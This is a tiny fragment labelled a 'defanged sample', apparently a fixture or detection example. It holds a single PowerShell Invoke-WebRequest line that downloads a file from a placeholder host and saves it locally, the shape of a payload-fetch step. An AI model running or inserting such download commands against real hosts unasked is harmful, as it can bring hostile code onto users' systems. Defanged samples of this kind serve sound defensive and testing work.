# defanged sample
Invoke-WebRequest https://a.example.invalid/x -OutFile x
